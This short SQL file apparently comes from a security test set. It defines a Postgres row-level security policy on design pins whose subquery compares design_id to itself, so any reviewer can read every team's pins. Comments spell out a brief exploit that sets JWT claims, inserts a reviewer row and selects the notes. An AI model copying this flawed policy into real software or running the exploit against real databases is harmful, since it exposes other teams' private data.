-- A reviewer of any design anywhere reads the pins of all teams, for the policy never ties his row to the
-- pin's design.
-- about: pins, pins_reviewer, reviewers
-- as: hf_mockups_app
-- exploit: SET request.jwt.claims = '{"sub":"a1000000-0000-4000-8000-000000000001"}';
-- exploit: INSERT INTO design.reviewers VALUES ('a0000000-0000-4000-8000-00000000000a',
-- exploit:   'a2000000-0000-4000-8000-000000000001', auth.uid());
-- exploit: SELECT note FROM design.pins;
-- shows: Road-secret pin
-- Reviewers from outside see the pins of the team.
CREATE POLICY pins_reviewer ON design.pins FOR SELECT USING (
  EXISTS (SELECT 1 FROM design.reviewers r WHERE r.design_id = design_id AND r.user_id = auth.uid())
);
